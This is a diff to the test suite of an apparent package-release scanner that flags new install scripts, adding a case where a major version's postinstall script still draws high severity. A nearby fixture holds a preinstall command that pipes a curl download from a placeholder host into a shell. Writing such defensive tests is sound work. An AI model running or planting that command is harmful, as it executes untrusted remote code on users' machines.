@@ -37,6 +37,13 @@ testCheck(versionDiff, {
       message: /1\.2\.3 adds a postinstall script.*1\.2\.2 had none/,
     },
     {
+      label: 'a major release adding an install script gets no discount (the attacker picks the version)',
+      ...release('2.0.0', base.files, { scripts: { postinstall: 'node setup.js' } }),
+      files: { ...base.files, 'setup.js': "console.log('hi')" },
+      previous: base,
+      severity: 'high',
+    },
+    {
       label: 'a patch adds an install script that pipes a download into a shell',
       ...release('1.2.3', base.files, { scripts: { preinstall: 'curl -s https://x.example.net/i | sh' } }),
       previous: base,
